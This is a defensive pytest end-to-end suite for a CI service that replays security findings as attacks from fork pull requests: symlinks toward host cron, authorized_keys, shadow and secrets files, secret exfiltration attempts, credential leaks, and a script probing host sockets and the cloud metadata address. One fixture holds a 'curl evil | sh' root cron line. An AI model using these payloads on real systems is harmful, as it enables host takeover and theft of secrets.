"""Untrusted code stays untrusted: issue 9's findings, each played as an attacker would play it,
through the real service.

Canary files stand in for the host's files (a cron file, `authorized_keys`, `/etc/shadow`, the
operator's secrets file) and must be byte for byte as they were. (The app's allow-list of
accounts and replayed webhooks: tests/e2e/test_owners.py.)
"""

from __future__ import annotations

import asyncio
import json
import secrets
import socket
from collections.abc import AsyncIterator
from pathlib import Path

import aiohttp
import pytest

from app.localgithub import CheckRun, LocalGitHub, PullRequest
from app.state import State
from app.state.database import open_database
from tests.e2e.harness import PASSING, Harness, git, watched

# Every service here starts with no installed environment and no download cache: what one run
# builds, downloads or plants, and what the next may reuse, is what these tests are about.
pytestmark = pytest.mark.fresh_environments

# What a run may reach and write happens in the sandbox and the service's folders, not in the
# database: SQLite, except for a fork's run started in every way, which includes one taken over
# after kill -9 and a delivery the sweeper finds in the database (both backends).
DATABASES = ("sqlite",)


class Canary:
    """A host file the service must neither change nor show: its bytes, mode and times."""

    def __init__(self, path: Path, content: str, mode: int = 0o600) -> None:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(content)
        path.chmod(mode)
        self.path = path
        self.content = content
        self.before = path.stat()

    def unchanged(self) -> bool:
        now = self.path.stat()
        return self.path.read_text() == self.content and (
            now.st_mode,
            now.st_mtime_ns,
            now.st_size,
        ) == (self.before.st_mode, self.before.st_mtime_ns, self.before.st_size)


async def log_of(harness: Harness, run: CheckRun) -> str:
    assert run.details_url is not None
    async with (
        aiohttp.ClientSession() as session,
        session.get(run.details_url + "/log") as response,
    ):
        assert response.status == 200
        return (await response.read()).decode(errors="replace")


async def fork_pull_request(harness: Harness, files: dict[str, str], branch: str) -> PullRequest:
    """A stranger forks the repository, commits `files` and opens a pull request."""
    fork = await harness.github.fork(harness.repo, owner="forker")
    harness.branch(branch)
    harness.commit(files, "a stranger's change")
    await harness.github.push(fork, harness.work, branch)
    return await harness.github.open_pull_request(harness.repo, head=branch, head_repo=fork)


def shown(run: CheckRun) -> str:
    """Everything GitHub shows of a check run."""
    parts = [run.output.title or "", run.output.summary or "", run.output.text or ""]
    parts += [f"{a.message}\n{a.raw_details or ''}" for a in run.annotations]
    return "\n".join(parts)


# -- 1. root writing through links that repository code planted -------------------------------

PLANT_ONLY = """\
[tool.conveyor.checks.tests]
install = ["ln -sf {canary} /conveyor/out/only.txt", "pip install pytest"]
run = ["pytest -q"]
"""
FAILING_WITH_NEWLINES = """\
import pytest


@pytest.mark.parametrize("line", ["* * * * * root curl evil | sh\\n"])
def test_fails(line):
    assert False, "fails, so that someone presses Re-run failed"
"""


async def test_re_run_failed_writes_nothing_through_a_link_a_fork_planted(
    harness: Harness,
) -> None:
    canary = Canary(harness.tmp / "host" / "etc-cron.d-conveyor", "# the operator's cron\n")
    git(harness.work, "commit", "-q", "--allow-empty", "-m", "base")
    await harness.push("main")
    pull = await fork_pull_request(
        harness,
        {
            "pyproject.toml": PLANT_ONLY.format(canary=canary.path),
            "test_fork.py": FAILING_WITH_NEWLINES,
        },
        "plant",
    )
    sha = pull.head_sha
    [first] = await harness.completed(sha, timeout=240)
    assert first.conclusion == "failure", shown(first)

    await harness.github.request_action(first.id, "rerun-failed")  # a maintainer's click
    runs = await harness.completed(sha, count=2, timeout=240)

    assert canary.unchanged()
    again = runs[-1]
    assert "(a re-run of 1 failed tests)" in (again.output.summary or ""), shown(again)


PLANT_READY = """\
[tool.conveyor.checks.tests]
install = [
    "pip install pytest",
    "ln -sf {canary} /conveyor/env/.conveyor-ready; ln -sf {canary} /conveyor/env/ready",
]
run = ["pytest -q"]
"""


async def test_publishing_an_environment_writes_nothing_through_a_planted_marker(
    harness: Harness,
) -> None:
    canary = Canary(harness.tmp / "host" / "root-ssh-authorized_keys", "ssh-ed25519 AAAA op\n")
    sha = harness.commit({**PASSING, "pyproject.toml": PLANT_READY.format(canary=canary.path)})
    await harness.push("main")
    [run] = await harness.completed(sha, timeout=240)
    assert run.conclusion == "success", shown(run)
    assert "Environment: built" in (run.output.summary or "")
    assert canary.unchanged()
    # And the environment it built serves the next commit.
    again = harness.commit({"test_more.py": "def test_more():\n    pass\n"})
    await harness.push("main")
    [next_run] = await harness.completed(again, timeout=240)
    assert "Environment: reused" in (next_run.output.summary or ""), shown(next_run)
    assert canary.unchanged()


# -- 2. the service reading host files through a repository's links --------------------------


async def test_a_configuration_linked_to_a_host_file_is_refused_without_showing_it(
    secret_harness: Harness,
) -> None:
    harness = secret_harness
    shadow = Canary(
        harness.tmp / "host" / "shadow",
        "root:$6$CANARYhash$zzzzzzzzzzzz:19000:0:99999:7:::\ndaemon:*:19000:0:99999:7:::\n",
    )
    secrets_file = Path(harness.env["SECRETS_FILE"])
    operator = json.loads(secrets_file.read_text())
    operator["octo-org/unannounced-product"] = {"LAUNCH_KEY": "k-123456789"}
    secrets_file.write_text(json.dumps(operator))
    git(harness.work, "commit", "-q", "--allow-empty", "-m", "base")
    await harness.push("main")
    fork = await harness.github.fork(harness.repo, owner="forker")
    harness.branch("links")
    runs: list[CheckRun] = []
    for target in (shadow.path, secrets_file, secrets_file):
        name = ".conveyor.yml" if len(runs) < 2 else "pyproject.toml"
        for old in (".conveyor.yml", "pyproject.toml"):
            (harness.work / old).unlink(missing_ok=True)
        (harness.work / name).symlink_to(target)
        git(harness.work, "add", "-A")
        git(harness.work, "commit", "-q", "-m", f"{name} -> {target.name}")
        sha = git(harness.work, "rev-parse", "HEAD")
        await harness.github.push(fork, harness.work, "links")
        if not runs:
            await harness.github.open_pull_request(harness.repo, head="links", head_repo=fork)
        [run] = await harness.completed(sha, timeout=120)
        runs.append(run)
    for run in runs:
        text = shown(run) + await log_of(harness, run)
        assert run.conclusion == "failure", text
        assert run.output.title == "Configuration error", text
        assert "outside the repository" in text, text
        for leaked in ("CANARY", "daemon", "unannounced", "LAUNCH_KEY", "octo-org/sample"):
            assert leaked not in text, (leaked, text)
    assert ".conveyor.yml" in shown(runs[0])
    assert "pyproject.toml" in shown(runs[2])
    assert shadow.unchanged()


# -- 3. a fork's code and the operator's secrets, however its run was started ------------------

SECRET_CONFIG = """\
[tool.conveyor.checks.tests]
install = ["pip install pytest"]
run = ["pytest -q"]
secrets = ["DEPLOY_TOKEN"]
"""
FORK_TEST = """\
import os


def test_a_fork_gets_no_secret():
    assert "DEPLOY_TOKEN" not in os.environ, "the secret reached a fork"
    assert False, "fails on purpose"
"""


@pytest.fixture
async def secret_harness(
    github: LocalGitHub, tmp_path: Path, database_url: str | None
) -> AsyncIterator[Harness]:
    """The operator keeps a value for the repository's DEPLOY_TOKEN in SECRETS_FILE."""
    secrets_file = tmp_path / "operator" / "secrets.json"
    secrets_file.parent.mkdir()
    value = f"s3cr3t-{secrets.token_hex(12)}"
    secrets_file.write_text(json.dumps({"octo-org/sample": {"DEPLOY_TOKEN": value}}))
    world = Harness(github, tmp_path, database_url)
    async with watched(world, extra_env={"SECRETS_FILE": str(secrets_file)}) as world:
        yield world


@pytest.mark.databases("sqlite", "postgresql")
async def test_a_fork_gets_no_secret_however_its_run_is_started(secret_harness: Harness) -> None:
    harness = secret_harness
    harness.commit({**PASSING, "pyproject.toml": SECRET_CONFIG}, "the project")
    await harness.push("main")
    pull = await fork_pull_request(harness, {"test_fork.py": FORK_TEST}, "from-fork")
    sha = pull.head_sha
    started: list[str] = []

    async def next_run(how: str) -> None:
        started.append(how)
        await harness.completed(sha, count=len(started), timeout=240)

    await next_run("pull_request opened")
    [first] = harness.runs(sha)
    await harness.github.rerequest_check_suite(harness.repo, sha)  # "Re-run all checks"
    await next_run("check_suite rerequested (no branch, no pull request)")
    await harness.github.rerequest_check_run(harness.runs(sha)[-1].id)  # "Re-run"
    await next_run("check_run rerequested")
    await harness.github.request_action(harness.runs(sha)[-1].id, "rerun-failed")
    await next_run("requested_action rerun-failed")
    await harness.github.comment(pull, "/conveyor run", author_association="MEMBER")
    await next_run("a /conveyor run comment")

    # Taken over after a crash: the process running it is killed, the restarted one runs it.
    await harness.github.rerequest_check_suite(harness.repo, sha)
    await harness.wait_for(sha, lambda runs: runs[-1].status == "in_progress", timeout=120)
    harness.service.kill()
    await harness.service.start()
    await next_run("taken over after kill -9")

    # The sweeper: a delivery accepted by a process that died before acting on it.
    harness.service.stop()
    reruns = [d for d in harness.github.deliveries if d.event == "check_suite"]
    suite_rerun = [d for d in reruns if d.action == "rerequested"][-1]
    state = State.on(open_database(harness.database_url, harness.tmp / "data"))
    state.db.execute(
        "UPDATE deliveries SET processed_at = NULL, received_by = NULL WHERE delivery_id = ?",
        (suite_rerun.delivery_id,),
    )
    state.close()
    await harness.service.start()
    await next_run("the sweeper, acting on an orphaned delivery")

    runs = harness.runs(sha)
    assert len(runs) == len(started)
    assert runs[0].id == first.id
    assert "Queued again" in [h["title"] for h in runs[5].history]  # the one taken over
    for how, run in zip(started, runs, strict=True):
        assert run.conclusion == "failure", (how, shown(run))
        messages = " ".join(a.message for a in run.annotations)
        assert "fails on purpose" in messages, (how, shown(run))
        assert "the secret reached a fork" not in messages, (how, shown(run))
    for run in runs:
        log = await log_of(harness, run)
        assert "Untrusted (a pull request from a fork)" in log or (
            "Untrusted (the commit is on no branch of octo-org/sample)" in log
        ), log


# -- 4. the operator's package-index credentials ----------------------------------------------

SHOW_INDEX = """\
[tool.conveyor.checks.tests]
install = ['echo "index=$PIP_EXTRA_INDEX_URL"']
run = ["echo ran"]
"""


@pytest.fixture
async def index_harness(
    github: LocalGitHub, tmp_path: Path, database_url: str | None
) -> AsyncIterator[Harness]:
    world = Harness(github, tmp_path, database_url)
    index = "http://ci-bot:Idx-pa55w0rd-long@127.0.0.1:9/simple"
    async with watched(world, extra_env={"PIP_EXTRA_INDEX_URL": index}) as world:
        yield world


async def test_the_package_index_credentials_are_masked_and_never_given_to_a_fork(
    index_harness: Harness,
) -> None:
    harness = index_harness
    sha = harness.commit({"pyproject.toml": SHOW_INDEX}, "show the index")
    await harness.push("main")
    [trusted] = await harness.completed(sha, timeout=120)
    trusted_log = await log_of(harness, trusted)
    assert "index=http://***@127.0.0.1:9/simple" in trusted_log, trusted_log

    # A changed dependency file: its own environment, built by its own install commands.
    pull = await fork_pull_request(harness, {"pyproject.toml": SHOW_INDEX + "# v2\n"}, "fork")
    [forked] = await harness.completed(pull.head_sha, timeout=120)
    fork_log = await log_of(harness, forked)
    assert "index=http://127.0.0.1:9/simple\n" in fork_log, fork_log
    for text in (trusted_log, fork_log, shown(trusted), shown(forked), harness.service.log()):
        assert "Idx-pa55w0rd-long" not in text
        assert "ci-bot:" not in text


# -- 5. what an install can reach --------------------------------------------------------------

REACH = """\
import os
import socket
import sys
import urllib.request

targets = sys.argv[1:]
for target in targets:
    kind, _, where = target.partition("=")
    try:
        if kind == "abstract":
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
                sock.connect("\\0" + where)
        elif kind == "tcp":
            host, port = where.rsplit(":", 1)
            socket.create_connection((host, int(port)), timeout=5).close()
        else:
            urllib.request.urlopen(where, timeout=10).read()
        print("REACHED", target)
    except Exception as error:
        print("BLOCKED", target, type(error).__name__)
"""
REACH_CONFIG = """\
[tool.conveyor.checks.tests]
install = ["python reach.py {targets}", "pip install pytest"]
run = ["pytest -q"]
"""


async def test_installs_reach_the_index_and_nothing_of_this_machine(harness: Harness) -> None:
    received: list[bytes] = []

    async def listening(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        received.append(await reader.read(100))
        writer.close()

    database = await asyncio.start_server(listening, "0.0.0.0", 0)  # noqa: S104 - the attack
    port = database.sockets[0].getsockname()[1]
    abstract = f"conveyor-test-{secrets.token_hex(6)}"
    host_socket = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    host_socket.bind("\0" + abstract)
    host_socket.listen()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("198.51.100.7", 9))  # no packet: it picks the outgoing address
            own = probe.getsockname()[0]
        except OSError:  # no route off this machine: its loopback address stands in
            own = "127.0.0.2"
    service = harness.service.url
    targets = [
        f"url={service}/healthz",  # NO_PROXY: the sandbox's own loopback
        f"url=http://localhost.:{harness.port}/healthz",  # through the proxy
        f"url=http://{own}:{harness.port}/healthz",
        f"tcp=127.0.0.1:{port}",
        f"tcp={own}:{port}",
        f"url=http://{own}:{port}/",
        "url=http://169.254.169.254/latest/meta-data/",
        f"abstract={abstract}",
    ]
    async with database:
        sha = harness.commit(
            {
                **PASSING,
                "reach.py": REACH,
                "pyproject.toml": REACH_CONFIG.format(targets=" ".join(targets)),
            }
        )
        await harness.push("main")
        [run] = await harness.completed(sha, timeout=240)
    host_socket.close()
    log = await log_of(harness, run)
    assert run.conclusion == "success", log  # pytest came from the index, through the proxy
    for target in targets:
        assert f"BLOCKED {target}" in log, log
    assert received == []
    assert "conveyor: a run's network does not reach" in log
    assert "(network: " in log


# -- 7. the environment's key and the secrets -------------------------------------------------


async def test_the_environment_key_does_not_depend_on_secret_values(
    secret_harness: Harness,
) -> None:
    harness = secret_harness
    sha = harness.commit({**PASSING, "pyproject.toml": SECRET_CONFIG}, "the project")
    await harness.push("main")
    [first] = await harness.completed(sha, timeout=240)
    secrets_file = Path(harness.env["SECRETS_FILE"])
    secrets_file.write_text(json.dumps({"octo-org/sample": {"DEPLOY_TOKEN": "another-value"}}))
    again = harness.commit({"test_more.py": "def test_more():\n    pass\n"})
    await harness.push("main")
    [second] = await harness.completed(again, timeout=240)
    assert "Environment: built" in (first.output.summary or ""), shown(first)
    # The operator changed the value: the environment, built from the same files, is the same.
    assert "Environment: reused (dependencies unchanged" in (second.output.summary or ""), shown(
        second
    )
